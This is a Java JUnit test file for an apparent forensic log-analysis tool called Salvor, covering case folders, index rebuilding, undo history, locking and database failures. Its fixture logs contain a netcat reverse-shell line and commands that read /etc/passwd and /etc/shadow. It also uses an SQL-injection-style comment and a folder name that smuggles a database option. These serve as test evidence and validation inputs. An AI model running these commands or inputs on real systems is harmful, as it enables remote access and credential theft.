package salvor.casefile;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.io.RandomAccessFile;
import java.nio.channels.FileChannel;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.nio.file.attribute.FileTime;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import salvor.baseline.Verdicts;
import salvor.casefile.CaseNote.About;
import salvor.casefile.CaseUnusable.Problem;
import salvor.evidence.Observations;
import salvor.jobs.Progress;

class CasesTest {
  private static final Clock CLOCK =
      Clock.fixed(Instant.parse("2026-11-20T10:00:00Z"), ZoneOffset.UTC);

  @TempDir Path dir;
  private Path evidence;
  private Path folder;
  private final AtomicInteger imports = new AtomicInteger();
  private final Cases cases = cases(CaseFolder::create);

  private Cases cases(IndexWriter.Opener opener) {
    return new Cases(
        (paths, progress) -> {
          imports.incrementAndGet();
          return Synthetic.read(paths, progress);
        },
        Synthetic::judge,
        CLOCK,
        opener);
  }

  @BeforeEach
  void writeEvidence() throws IOException {
    folder = dir.resolve("case");
    evidence = Files.createDirectories(dir.resolve("evidence"));
    Files.writeString(evidence.resolve("a.log"), "ls -l\n# remark\nnc -e sh 10.0.0.9\n?\n");
    Files.writeString(evidence.resolve("b.log"), "cat /etc/passwd\n");
  }

  private OpenedCase open() throws Exception {
    return cases.open(Opening.inFolder(List.of(evidence), List.of(), folder), Progress.NONE);
  }

  private OpenedCase reopen() throws Exception {
    return cases.open(Opening.inFolder(List.of(), List.of(), folder), Progress.NONE);
  }

  private void make() throws Exception {
    open().close();
  }

  private List<About> notes(OpenedCase opened) {
    return opened.notes().stream().map(CaseNote::about).toList();
  }

  @Test
  void withoutAFolderNothingIsKeptAndEverythingWorks() throws Exception {
    try (OpenedCase opened =
        cases.open(Opening.inMemory(List.of(evidence), List.of()), Progress.NONE)) {
      opened.edits().star(0);
      assertThat(opened.marks().of(0).starred()).isTrue();
      assertThat(opened.edits().undo()).isPresent();
      assertThat(opened.marks().of(0)).isEqualTo(Mark.NONE);
      assertThat(opened.folder()).isEmpty();
    }
    try (Stream<Path> all = Files.list(dir)) {
      assertThat(all).containsExactly(evidence);
    }
  }

  @Test
  void reopensWithoutReadingTheEvidenceAgainAndShowsTheSame() throws Exception {
    List<Object> before;
    try (OpenedCase opened = open()) {
      before = content(opened);
    }
    try (OpenedCase opened = reopen()) {
      assertThat(content(opened)).isEqualTo(before);
      assertThat(opened.notes()).isEmpty();
    }
    assertThat(imports).hasValue(1);
  }

  @Test
  void whatWasImportedStandsInTheIndexAndNotOnTheHeap() throws Exception {
    try (OpenedCase opened = open()) {
      assertThat(imports).hasValue(1);
      Observations all = opened.evidence().observations();
      assertThat(all.columns().time().isDirect()).isTrue();
      assertThat(opened.verdicts().perRow().isDirect()).isTrue();
      assertThat(all.texts().page(1).isDirect()).isTrue();
    }
  }

  private static List<Object> content(OpenedCase opened) {
    Observations all = opened.evidence().observations();
    Verdicts verdicts = opened.verdicts();
    List<Object> content = new java.util.ArrayList<>();
    for (int row = 0; row < all.size(); row++) {
      content.add(all.get(row));
      content.add(verdicts.judgement(row));
    }
    content.add(opened.evidence().sources());
    content.add(opened.evidence().inventory());
    content.add(opened.baselines());
    return content;
  }

  @Test
  void namingTheSameEvidenceAgainOpensTheSameCase() throws Exception {
    make();
    open().close();
    assertThat(imports).hasValue(1);
  }

  @Test
  void moreEvidenceIsReadAndLessIsRefused() throws Exception {
    make();
    Path more = Files.writeString(dir.resolve("more.log"), "id\n");
    try (OpenedCase opened =
        cases.open(Opening.inFolder(List.of(evidence, more), List.of(), folder), Progress.NONE)) {
      assertThat(opened.evidence().observations().size()).isEqualTo(4);
      assertThat(notes(opened)).containsExactly(About.INPUTS_CHANGED);
    }
    assertThatThrownBy(
            () -> cases.open(Opening.inFolder(List.of(more), List.of(), folder), Progress.NONE))
        .isInstanceOfSatisfying(
            CaseUnusable.class, e -> assertThat(e.problem()).isEqualTo(Problem.OTHER_EVIDENCE));
    reopen().close();
  }

  @Test
  void anotherBaselineHasEverythingJudgedAgain() throws Exception {
    make();
    Path baseline = Files.writeString(dir.resolve("baseline.log"), "# a baseline\n");
    try (OpenedCase opened =
        cases.open(Opening.inFolder(List.of(), List.of(baseline), folder), Progress.NONE)) {
      assertThat(opened.evidence().sources()).hasSize(3);
    }
    open().close();
    assertThat(imports).hasValue(2);
  }

  @Test
  void marksAreThereAgainAfterReopening() throws Exception {
    try (OpenedCase opened = open()) {
      opened.edits().star(0, 2);
      opened.edits().tag("lateral", 1);
      opened.edits().comment("<b>not markup</b>\n'; drop table entry", 1);
      opened.edits().saveFilter("mine", "program=nc");
      opened.state().put("columns", "time,kind");
    }
    try (OpenedCase opened = reopen()) {
      assertThat(opened.marks().rows().stream()).containsExactly(0, 1, 2);
      assertThat(opened.marks().starred().stream()).containsExactly(0, 2);
      assertThat(opened.marks().tagged("lateral"::equals).stream()).containsExactly(1);
      assertThat(opened.marks().of(1).comments())
          .singleElement()
          .satisfies(c -> {
            assertThat(c.text()).isEqualTo("<b>not markup</b>\n'; drop table entry");
            assertThat(c.at()).isEqualTo(CLOCK.instant());
          });
      assertThat(opened.savedFilters()).containsExactly(java.util.Map.entry("mine", "program=nc"));
      assertThat(opened.state().get("columns")).contains("time,kind");
      assertThat(opened.marks().tags()).containsExactly(java.util.Map.entry("lateral", 1));
    }
  }

  @Test
  void undoAndRedoSurviveReopening() throws Exception {
    try (OpenedCase opened = open()) {
      opened.edits().comment("first", 0);
      String id = opened.marks().of(0).comments().getFirst().id();
      opened.edits().changeComment(0, id, "second");
      opened.edits().star(1);
      opened.edits().undo();
    }
    try (OpenedCase opened = reopen()) {
      assertThat(opened.marks().of(1).starred()).isFalse();
      opened.edits().undo();
      assertThat(opened.marks().of(0).comments())
          .extracting(Comment::text)
          .containsExactly("first");
    }
    try (OpenedCase opened = reopen()) {
      opened.edits().redo();
      assertThat(opened.marks().of(0).comments())
          .extracting(Comment::text)
          .containsExactly("second");
      opened.edits().redo();
      assertThat(opened.marks().of(1).starred()).isTrue();
      assertThat(opened.edits().redo()).isEmpty();
    }
  }

  @Test
  void anUndoneEditStaysInTheLogAfterANewOne() throws Exception {
    try (OpenedCase opened = open()) {
      opened.edits().star(0);
      opened.edits().undo();
      opened.edits().tag("x", 0);
      assertThat(opened.edits().redoable()).isEmpty();
    }
    try (OpenedCase opened = reopen()) {
      assertThat(opened.edits().log())
          .extracting(Edit::state)
          .containsExactly(Edit.State.DROPPED, Edit.State.DONE);
      assertThat(opened.marks().of(0))
          .isEqualTo(
              new Mark(
                  false,
                  new java.util.TreeSet<>(List.of("x")),
                  List.of(),
                  java.util.Set.of(),
                  null));
    }
  }

  @Test
  void aSecondProgramIsToldWhoHasTheCase() throws Exception {
    try (OpenedCase opened = open()) {
      assertThatThrownBy(this::reopen)
          .isInstanceOf(CaseUnusable.class)
          .hasMessageContaining("process " + ProcessHandle.current().pid())
          .hasMessageContaining("since 2026-11-20T10:00:00Z");
      opened.edits().star(0);
    }
    reopen().close();
  }

  @Test
  void aMissingIndexIsMadeAgain() throws Exception {
    try (OpenedCase opened = open()) {
      opened.edits().star(2);
    }
    Files.delete(folder.resolve("observations.index"));
    try (OpenedCase opened = reopen()) {
      assertThat(notes(opened)).containsExactly(About.INDEX_MISSING);
      assertThat(opened.marks().starred().stream()).containsExactly(2);
    }
  }

  @Test
  void anIndexThatIsDamagedAtAnyPlaceIsMadeAgain() throws Exception {
    make();
    Path index = folder.resolve("observations.index");
    byte[] whole = Files.readAllBytes(index);
    IndexReader.Opened expected = IndexReader.open(index);
    int damaged = 0;
    for (int at = 0; at < whole.length; at += 13) {
      byte[] bytes = whole.clone();
      bytes[at] ^= 0x40;
      Files.write(index, bytes);
      try {
        // bytes between two sections belong to nobody
        assertThat(IndexReader.open(index).stored()).isEqualTo(expected.stored());
      } catch (IndexUnusable e) {
        damaged++;
      }
    }
    assertThat(damaged).isGreaterThan(whole.length / 13 / 3);
    for (int length = 0; length < whole.length; length += 61) {
      Files.write(index, java.util.Arrays.copyOf(whole, length));
      assertThatThrownBy(() -> IndexReader.open(index)).isInstanceOf(IndexUnusable.class);
    }
    try (OpenedCase opened = reopen()) {
      assertThat(notes(opened)).containsExactly(About.INDEX_DAMAGED);
    }
    try (OpenedCase opened = reopen()) {
      assertThat(opened.notes()).isEmpty();
    }
  }

  @Test
  void anIndexOfAnotherVersionIsMadeAgain() throws Exception {
    make();
    try (RandomAccessFile file =
        new RandomAccessFile(folder.resolve("observations.index").toFile(), "rw")) {
      file.seek(8);
      file.write(99);
    }
    try (OpenedCase opened = reopen()) {
      assertThat(notes(opened)).containsExactly(About.INDEX_OF_OTHER_VERSION);
    }
  }

  @Test
  void changedEvidenceIsToldAndDoesNotKeepTheCaseFromOpening() throws Exception {
    make();
    Files.writeString(evidence.resolve("a.log"), "something else");
    Files.delete(evidence.resolve("b.log"));
    Files.writeString(evidence.resolve("c.log"), "came later\n");
    try (OpenedCase opened = reopen()) {
      assertThat(notes(opened))
          .containsExactlyInAnyOrder(
              About.SOURCE_CHANGED, About.SOURCE_MISSING, About.SOURCE_ADDED);
      assertThat(opened.evidence().observations().size()).isEqualTo(3);
      assertThat(opened.notes().getFirst().toString())
          .contains("a.log")
          .contains("35 bytes, now 14");
    }
  }

  @Test
  void evidenceThatIsNamedAgainIsReadAgainWhenFilesCameToIt() throws Exception {
    make();
    Files.writeString(evidence.resolve("c.log"), "came later\n");
    try (OpenedCase opened = reopen()) {
      assertThat(notes(opened)).as("not named").containsExactly(About.SOURCE_ADDED);
      assertThat(opened.evidence().observations().size()).isEqualTo(3);
    }
    try (OpenedCase opened = open()) {
      assertThat(notes(opened)).containsExactly(About.INPUTS_ARE_MORE);
      assertThat(opened.evidence().observations().size()).isEqualTo(4);
    }
    Files.delete(evidence.resolve("a.log"));
    Files.writeString(evidence.resolve("d.log"), "later still\n");
    try (OpenedCase opened = open()) {
      assertThat(notes(opened))
          .as("what was read would be lost")
          .containsExactlyInAnyOrder(About.SOURCE_MISSING, About.SOURCE_ADDED);
      assertThat(opened.evidence().observations().size()).isEqualTo(4);
    }
  }

  @Test
  void evidenceThatOnlyGrewIsSaidToHaveGrown() throws Exception {
    make();
    Files.writeString(evidence.resolve("a.log"), "came later\n", StandardOpenOption.APPEND);
    try (OpenedCase opened = reopen()) {
      assertThat(notes(opened)).containsExactly(About.SOURCE_GROWN);
      assertThat(opened.notes().getFirst().toString()).contains("35 bytes, now 46");
    }
  }

  @Test
  void anotherTimeOfAFileIsNoChangeAndAnotherByteIs() throws Exception {
    make();
    Path file = evidence.resolve("b.log");
    Files.setLastModifiedTime(file, FileTime.fromMillis(1_700_000_000_000L));
    try (OpenedCase opened = reopen()) {
      assertThat(opened.notes()).isEmpty();
    }
    Files.writeString(file, "cat /etc/shadow\n");
    Files.setLastModifiedTime(file, FileTime.fromMillis(1_700_000_000_000L));
    try (OpenedCase opened = reopen()) {
      assertThat(notes(opened)).containsExactly(About.SOURCE_CHANGED);
    }
  }

  @Test
  void evidenceThatMovedTogetherWithTheCaseIsFound() throws Exception {
    make();
    Path other = Files.createDirectories(dir.resolve("elsewhere"));
    Files.move(evidence, other.resolve("evidence"));
    Files.move(folder, other.resolve("case"));
    folder = other.resolve("case");
    try (OpenedCase opened = reopen()) {
      assertThat(notes(opened)).containsExactly(About.SOURCE_MOVED);
      assertThat(opened.evidence().sources().getFirst().path())
          .isEqualTo(other + "/evidence/a.log");
    }
    Files.delete(folder.resolve("observations.index"));
    try (OpenedCase opened = reopen()) {
      assertThat(opened.evidence().observations().size()).isEqualTo(3);
    }
  }

  @Test
  void anIndexCannotBeMadeAgainWithoutTheEvidence() throws Exception {
    make();
    Files.delete(folder.resolve("observations.index"));
    Files.move(evidence, dir.resolve("gone"));
    assertThatThrownBy(this::reopen)
        .isInstanceOf(CaseUnusable.class)
        .hasMessageContaining(evidence.toString())
        .hasMessageContaining("put the evidence back");
    Files.move(dir.resolve("gone"), evidence);
    reopen().close();
  }

  @Test
  void aFailedImportLeavesAFolderThatStartsClean() throws Exception {
    Cases failing =
        new Cases(
            (_, _) -> {
              throw new IOException("the reader broke");
            },
            Synthetic::judge,
            CLOCK);
    assertThatThrownBy(() ->
            failing.open(Opening.inFolder(List.of(evidence), List.of(), folder), Progress.NONE))
        .hasMessage("the reader broke");
    Files.writeString(folder.resolve("observations.index.new"), "half");
    try (OpenedCase opened = reopen()) {
      assertThat(notes(opened)).containsExactly(About.IMPORT_WAS_INTERRUPTED);
      assertThat(opened.evidence().observations().size()).isEqualTo(3);
    }
    try (Stream<Path> all = Files.list(folder)) {
      assertThat(all.map(p -> p.getFileName().toString()))
          .containsExactlyInAnyOrder(
              "case.lock",
              "case.mv.db",
              "clocks.right",
              "custody-head.json",
              "custody.jsonl",
              "observations.index");
    }
  }

  @Test
  void aFullDiskIsNamedAndTheCaseStaysAsItWas() throws Exception {
    make();
    byte[] before = Files.readAllBytes(folder.resolve("observations.index"));
    Path more = Files.writeString(dir.resolve("more.log"), "id\n");
    Cases full = cases(file -> FileChannel.open(Path.of("/dev/full"), StandardOpenOption.WRITE));
    org.junit.jupiter.api.Assumptions.assumeTrue(
        Files.exists(Path.of("/dev/full")), "needs /dev/full");
    assertThatThrownBy(() ->
            full.open(Opening.inFolder(List.of(evidence, more), List.of(), folder), Progress.NONE))
        .isInstanceOfSatisfying(
            CaseUnusable.class,
            e -> {
              assertThat(e.problem()).isEqualTo(Problem.NO_SPACE);
              assertThat(e)
                  .hasMessageContaining("observations.index")
                  .hasMessageContaining("free some space");
            });
    assertThat(Files.readAllBytes(folder.resolve("observations.index"))).isEqualTo(before);
    assertThat(folder.resolve("observations.index.new")).doesNotExist();
    try (OpenedCase opened = reopen()) {
      assertThat(opened.notes()).isEmpty();
      assertThat(opened.evidence().observations().size()).isEqualTo(3);
    }
  }

  @Test
  void aDamagedDatabaseIsNamedAndTheEvidenceStillOpens() throws Exception {
    for (byte[] garbage : List.of(new byte[0], "garbage".repeat(4000).getBytes(), new byte[9000])) {
      Path own = dir.resolve("case" + garbage.length);
      cases.open(Opening.inFolder(List.of(evidence), List.of(), own), Progress.NONE).close();
      Files.write(own.resolve("case.mv.db"), garbage);
      try (OpenedCase opened =
          cases.open(Opening.inFolder(List.of(), List.of(), own), Progress.NONE)) {
        assertThat(opened.evidence().observations().size()).isEqualTo(3);
        assertThat(notes(opened)).containsExactly(About.DATABASE_UNUSABLE);
        assertThat(opened.marks().rows().isEmpty()).isTrue();
        assertThatThrownBy(() -> opened.edits().star(0))
            .isInstanceOf(CaseUnusable.class)
            .hasMessageContaining("case.mv.db");
      }
    }
  }

  @Test
  void aDatabaseWithAnotherPasswordIsTold() throws Exception {
    make();
    try (java.sql.Connection other =
            java.sql.DriverManager.getConnection(
                "jdbc:h2:file:" + folder.resolve("case"), "sa", "");
        java.sql.Statement statement = other.createStatement()) {
      statement.execute("alter user sa set password 'secret'");
    }
    try (OpenedCase opened = reopen()) {
      assertThat(opened.notes().getFirst().detail()).contains("another user or password");
    }
  }

  @Test
  void aCaseOfANewerProgramIsRefused() throws Exception {
    make();
    try (java.sql.Connection other =
            java.sql.DriverManager.getConnection(
                "jdbc:h2:file:" + folder.resolve("case"), "sa", "");
        java.sql.Statement statement = other.createStatement()) {
      statement.execute(
          "insert into schema_version (version, script) values (99, 'V99__future.sql')");
    }
    try (OpenedCase opened = reopen()) {
      assertThatThrownBy(() -> opened.edits().star(0)).hasMessageContaining("newer Salvor");
    }
  }

  @Test
  void aDatabaseThatWasMovedAwayIsMadeAnew() throws Exception {
    make();
    Files.delete(folder.resolve("case.mv.db"));
    try (OpenedCase opened = reopen()) {
      opened.edits().star(0);
    }
    Files.delete(folder.resolve("observations.index"));
    try (OpenedCase opened = reopen()) {
      assertThat(opened.marks().of(0).starred()).isTrue();
    }
  }

  @Test
  void foldersThatCannotHoldACaseAreRefused() throws Exception {
    Path file = evidence.resolve("a.log");
    assertThat(problem(List.of(evidence), file)).isEqualTo(Problem.INSIDE_EVIDENCE);
    assertThat(problem(List.of(file), dir.resolve("a;INIT=x"))).isEqualTo(Problem.FOLDER_NAME);
    assertThat(problem(List.of(evidence), evidence.resolve("case")))
        .isEqualTo(Problem.INSIDE_EVIDENCE);
    assertThat(problem(List.of(file), evidence.resolve("b.log"))).isEqualTo(Problem.NOT_A_FOLDER);
  }

  @Test
  void askingForACaseWhereThereIsNoneWritesNothing() throws Exception {
    assertThat(problem(List.of(), dir.resolve("empty"))).isEqualTo(Problem.NO_CASE);
    assertThat(dir.resolve("empty")).doesNotExist();
    assertThat(problem(List.of(), evidence)).isEqualTo(Problem.NO_CASE);
    assertThat(evidence)
        .isDirectoryContaining("glob:**/a.log")
        .isDirectoryNotContaining("glob:**/case*");
  }

  private Problem problem(List<Path> paths, Path at) {
    try (OpenedCase _ = cases.open(Opening.inFolder(paths, List.of(), at), Progress.NONE)) {
      throw new AssertionError("opened " + at);
    } catch (CaseUnusable e) {
      return e.problem();
    } catch (Exception e) {
      throw new AssertionError(e);
    }
  }
}
